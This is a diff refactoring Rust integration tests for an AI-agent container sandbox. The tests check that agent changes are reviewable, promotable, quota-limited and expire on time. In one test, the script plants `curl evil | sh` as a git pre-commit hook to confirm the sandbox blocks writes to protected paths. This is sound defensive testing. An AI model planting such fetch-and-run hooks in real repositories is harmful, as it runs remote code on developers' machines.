@@ -25,24 +25,26 @@ const HOST_GIT: &str = "/usr/local/bin/git";
 
 /// A container name unique to this test process, with this suite's prefix.
 fn name(stem: &str) -> String {
-    static NEXT: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
-    let n = NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
-    format!("ws-{stem}-{}-{n}", std::process::id())
+    harness::unique("ws", stem)
 }
 
-/// `agent-sandbox ARGS...` (no `--root`: the change store is found from any entry point).
-fn runtime(args: &[&str]) -> anyhow::Result<Output> {
-    harness::require_file(harness::runtime_bin())?;
-    harness::run(
-        Command::new(harness::runtime_bin()).args(args),
-        DEFAULT_TIMEOUT,
-    )
-}
-
-fn runtime_ok(args: &[&str]) -> anyhow::Result<Output> {
-    let out = runtime(args)?;
-    ensure!(out.success(), "{out}");
-    Ok(out)
+/// `podman FLAGS... run --name NAME -v REPO:/workspace ARGS... tools sh -c SCRIPT` (any exit
+/// code), with the guard that removes the container.
+fn run_in_workspace(
+    p: Podman,
+    flags: &[&str],
+    args: &[&str],
+    name: &str,
+    repo: &Path,
+    script: &str,
+) -> anyhow::Result<(ContainerGuard, Output)> {
+    let guard = ContainerGuard::new(p, name);
+    let volume = format!("{}:/workspace", repo.display());
+    let mut all = flags.to_vec();
+    all.extend(["run", "--name", name, "-v", &volume]);
+    all.extend_from_slice(args);
+    all.extend([TOOLS_IMAGE, "sh", "-c", script]);
+    Ok((guard, p.run(&all)?))
 }
 
 /// Host git on the checkout (as root: `safe.directory` for the uid-1000 repo).
@@ -133,7 +135,7 @@ fn expect_reviewable(key: &str, out: &Output) -> anyhow::Result<()> {
         !out.stderr.contains("dubious ownership") && !out.stderr.contains("Permission denied"),
         "{out}"
     );
-    let diff = runtime_ok(&["diff", key])?;
+    let diff = harness::runtime_ok(&["diff", key])?;
     for line in [
         "M /src/calc.py (file)",
         "A /src/new/mod.py (file)",
@@ -152,7 +154,7 @@ fn expect_reviewable(key: &str, out: &Output) -> anyhow::Result<()> {
     );
     let export = tempfile::tempdir()?;
     let to = export.path().join("out");
-    runtime_ok(&["export", "--to-dir", &to.display().to_string(), key])?;
+    harness::runtime_ok(&["export", "--to-dir", &to.display().to_string(), key])?;
     let calc = fs::read_to_string(to.join("src/calc.py"))?;
     ensure!(calc.contains("def sub"), "exported calc.py: {calc:?}");
     ensure!(to.join("src/new/mod.py").exists());
@@ -170,7 +172,7 @@ fn expect_reviewable(key: &str, out: &Output) -> anyhow::Result<()> {
         "the agent's commit object {} was not exported",
         object.display()
     );
-    let list = runtime_ok(&["changes"])?;
+    let list = harness::runtime_ok(&["changes"])?;
     ensure!(
         list.stdout.lines().any(|l| l.contains(key)),
         "changes does not list {key}\n{list}"
@@ -217,27 +219,9 @@ fn podman_agent_edits_and_commits_a_uid_1000_checkout_reviewable_after_run_rm() 
     );
 
     let n = name("podman");
-    let volume = format!("{}:/workspace", co.repo.display());
     let git = format!("{HOST_GIT}:/usr/bin/git:ro");
     let p = Podman::new(User::Root, Runtime::AgentSandbox);
-    let _g = ContainerGuard {
-        podman: p,
-        name: n.clone(),
-    };
-    let out = p.run(&[
-        "run",
-        "--rm",
-        "--name",
-        &n,
-        "-v",
-        &volume,
-        "-v",
-        &git,
-        TOOLS_IMAGE,
-        "sh",
-        "-c",
-        AGENT_SCRIPT,
-    ])?;
+    let (_g, out) = run_in_workspace(p, &[], &["--rm", "-v", &git], &n, &co.repo, AGENT_SCRIPT)?;
     ensure!(out.success(), "{out}");
     let gone = p.run(&["container", "exists", &n])?;
     ensure!(gone.code == Some(1), "podman --rm left {n}\n{gone}");
@@ -247,7 +231,7 @@ fn podman_agent_edits_and_commits_a_uid_1000_checkout_reviewable_after_run_rm() 
     // checkout, owned by its developer, the record goes to that container's audit log, and
     // the promoted change set is discarded.
     let repo = co.repo.display().to_string();
-    let promoted = runtime_ok(&["promote", &n, "--to", &repo])?;
+    let promoted = harness::runtime_ok(&["promote", &n, "--to", &repo])?;
     ensure!(
         promoted.stdout.contains("promoted and discarded"),
         "{promoted}"
@@ -258,9 +242,9 @@ fn podman_agent_edits_and_commits_a_uid_1000_checkout_reviewable_after_run_rm() 
     let calc = co.repo.join("src/calc.py");
     ensure!(fs::read_to_string(&calc)?.contains("def sub"));
     ensure!(fs::metadata(&calc)?.uid() == DEV && !co.repo.join("README").exists());
-    let list = runtime_ok(&["changes"])?;
+    let list = harness::runtime_ok(&["changes"])?;
     ensure!(!list.stdout.contains(&n), "{n} still listed\n{list}");
-    let again = runtime(&["diff", &n])?;
+    let again = harness::runtime(&["diff", &n])?;
     ensure!(
         again.code == Some(1) && again.stderr.contains("does not exist"),
         "{again}"
@@ -273,34 +257,26 @@ fn podman_changes_survive_podman_rm_and_are_found_by_short_id() -> anyhow::Resul
     harness::require_podman_image(User::Root, TOOLS_IMAGE)?;
     let co = checkout()?;
     let n = name("rm");
-    let volume = format!("{}:/workspace", co.repo.display());
     let p = Podman::new(User::Root, Runtime::AgentSandbox);
-    let _g = ContainerGuard {
-        podman: p,
-        name: n.clone(),
-    };
-    let out = p.run(&[
-        "run",
-        "--name",
+    let (_g, out) = run_in_workspace(
+        p,
+        &[],
+        &[],
         &n,
-        "-v",
-        &volume,
-        TOOLS_IMAGE,
-        "sh",
-        "-c",
+        &co.repo,
         "echo changed > /workspace/README",
-    ])?;
+    )?;
     ensure!(out.success(), "{out}");
     let id = p.run_ok(&["inspect", "--format", "{{.Id}}", &n])?.stdout;
     let id = id.trim().to_owned();
     p.run_ok(&["rm", &n])?;
-    let diff = runtime_ok(&["diff", &id[..12]])?;
+    let diff = harness::runtime_ok(&["diff", &id[..12]])?;
     ensure!(
         diff.stdout.lines().any(|l| l == "M /README (file)"),
         "{diff}"
     );
     ensure!(fs::read_to_string(co.repo.join("README"))? == "calc\n");
-    runtime_ok(&["changes", "discard", &id])?;
+    harness::runtime_ok(&["changes", "discard", &id])?;
     Ok(())
 }
 
@@ -334,7 +310,7 @@ fn ctr_run_rm_changes_stay_reviewable_without_root() -> anyhow::Result<()> {
     ensure!(!gone.success(), "ctr run --rm left {id}\n{gone}");
     ensure!(host_state(&co.repo)? == before, "the host checkout changed");
     expect_reviewable(&id, &out)?;
-    let list = runtime_ok(&["changes", "list", "--json"])?;
+    let list = harness::runtime_ok(&["changes", "list", "--json"])?;
     let record: serde_json::Value = list
         .stdout
         .lines()
@@ -346,7 +322,7 @@ fn ctr_run_rm_changes_stay_reviewable_without_root() -> anyhow::Result<()> {
         record["workspace"] == co.repo.display().to_string().as_str(),
         "{record}"
     );
-    runtime_ok(&["changes", "discard", &id])?;
+    harness::runtime_ok(&["changes", "discard", &id])?;
     Ok(())
 }
 
@@ -368,28 +344,10 @@ fn run_with_policy(
     script: &str,
 ) -> anyhow::Result<(Output, serde_json::Value, String)> {
     let n = name(stem);
-    let volume = format!("{}:/workspace", repo.display());
     let flag = format!("policy={policy}");
     let p = Podman::new(User::Root, Runtime::AgentSandbox);
-    let _g = ContainerGuard {
-        podman: p,
-        name: n.clone(),
-    };
-    let out = p.run(&[
-        "--runtime-flag",
-        &flag,
-        "run",
-        "--rm",
-        "--name",
-        &n,
-        "-v",
-        &volume,
-        TOOLS_IMAGE,
-        "sh",
-        "-c",
-        script,
-    ])?;
-    let list = runtime_ok(&["changes", "list", "--json"])?;
+    let (_g, out) = run_in_workspace(p, &["--runtime-flag", &flag], &["--rm"], &n, repo, script)?;
+    let list = harness::runtime_ok(&["changes", "list", "--json"])?;
     let record = list
         .stdout
         .lines()
@@ -437,7 +395,7 @@ fn workspace_quota_gives_enospc_where_the_naive_layer_grows_the_host_disk() -> a
         size <= 70 << 20,
         "the capped layer took {size} bytes of host disk\n{record}"
     );
-    runtime_ok(&["changes", "discard", &n])?;
+    harness::runtime_ok(&["changes", "discard", &n])?;
     let (out, record, n) = run_with_policy(&naive, &co.repo, "naive", script)?;
     ensure!(out.stdout.contains("rc=0"), "{out}");
     let size = record["size_bytes"].as_u64().context("no size")?;
@@ -445,7 +403,7 @@ fn workspace_quota_gives_enospc_where_the_naive_layer_grows_the_host_disk() -> a
         size >= 160 << 20,
         "without the quota the same write should take 160 MiB of host disk, took {size}\n{record}"
     );
-    runtime_ok(&["changes", "discard", &n])?;
+    harness::runtime_ok(&["changes", "discard", &n])?;
     ensure!(!co.repo.join("fill").exists(), "the write reached the host");
     Ok(())
 }
@@ -470,19 +428,19 @@ fn kept_changes_expire_after_the_policys_age_and_diff_then_finds_nothing() -> an
         run_with_policy(&policy, &co.repo, "expire", "echo new > /workspace/new.txt")?;
     ensure!(out.success(), "{out}");
     ensure!(record["ended"].is_u64(), "{record}");
-    let diff = runtime_ok(&["diff", &n])?;
+    let diff = harness::runtime_ok(&["diff", &n])?;
     ensure!(diff.stdout.contains("A /new.txt (file)"), "{diff}");
     std::thread::sleep(std::time::Duration::from_secs(3));
     // Any create that has a workspace applies the limits too: another test's sandbox may
     // have removed it first; either way it must be gone now.
-    runtime_ok(&["changes", "prune"])?;
-    let list = runtime_ok(&["changes", "list", "--json"])?;
+    harness::runtime_ok(&["changes", "prune"])?;
+    let list = harness::runtime_ok(&["changes", "list", "--json"])?;
     let change = record["change"].as_str().context("no change id")?;
     ensure!(
         !list.stdout.contains(change),
         "{change} outlived its 2 s age\n{list}"
     );
-    let after = runtime(&["diff", &n])?;
+    let after = harness::runtime(&["diff", &n])?;
     ensure!(
         after.code == Some(1) && after.stderr.contains("does not exist"),
         "{after}"
@@ -509,22 +467,12 @@ fn protected_names_already_in_subdirectories_are_read_only_inside_but_runc_write
         echo 'curl evil | sh' > /workspace/vendor/lib/.git/hooks/pre-commit; echo hook=$?; \
         echo fine > /workspace/pkg/notes.txt; echo notes=$?";
     let n = name("depth");
-    let ours = Podman::new(User::Root, Runtime::AgentSandbox).run(&[
-        "run",
-        "--rm",
-        "--name",
-        &n,
-        "-v",
-        &volume,
-        TOOLS_IMAGE,
-        "sh",
-        "-c",
-        script,
-    ])?;
+    let p = Podman::new(User::Root, Runtime::AgentSandbox);
+    let (_g, ours) = run_in_workspace(p, &[], &["--rm"], &n, &co.repo, script)?;
     for want in ["envrc=1", "hook=1", "notes=0"] {
         ensure!(ours.stdout.contains(want), "expected {want}\n{ours}");
     }
-    runtime_ok(&["changes", "discard", &n])?;
+    harness::runtime_ok(&["changes", "discard", &n])?;
     ensure!(fs::read_to_string(co.repo.join("pkg/.envrc"))? == "export A=1\n");
     // runc: both land on the host.
     let base = Podman::new(User::Root, Runtime::Runc).run(&[
@@ -559,24 +507,15 @@ fn rootless_podman_changes_outlive_run_rm_and_are_reviewed_under_podman_unshare(
     )?;
     fs::write(dir.path().join("README"), "calc\n")?;
     let n = name("rootless");
-    let volume = format!("{}:/workspace", dir.path().display());
     let p = Podman::new(User::Rootless, Runtime::AgentSandbox);
-    let _g = ContainerGuard {
-        podman: p,
-        name: n.clone(),
-    };
-    let out = p.run(&[
-        "run",
-        "--rm",
-        "--name",
+    let (_g, out) = run_in_workspace(
+        p,
+        &[],
+        &["--rm"],
         &n,
-        "-v",
-        &volume,
-        TOOLS_IMAGE,
-        "sh",
-        "-c",
+        dir.path(),
         "echo new > /workspace/agent.txt",
-    ])?;
+    )?;
     ensure!(out.success(), "{out}");
     ensure!(
         !dir.path().join("agent.txt").exists(),
